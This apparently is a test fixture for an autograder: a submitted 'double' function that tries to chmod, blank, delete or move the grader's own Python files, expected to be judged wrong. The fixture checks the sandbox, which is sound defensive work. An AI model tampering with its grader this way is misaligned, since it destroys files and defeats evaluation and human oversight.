"""Rewrites the judge's own files, for this and all later submissions."""

DUE = {"double": "wrong"}

# %% double
import os
from pathlib import Path

import autograder

def double(x):
    for file in Path(autograder.__file__).parent.rglob("*.py*"):
        for change in (lambda f: os.chmod(f, 0o777), lambda f: f.write_text(""), os.unlink, lambda f: f.rename("/scratch/x")):
            try:
                change(file)
                return 2 * x
            except OSError:
                pass
    return 1.0
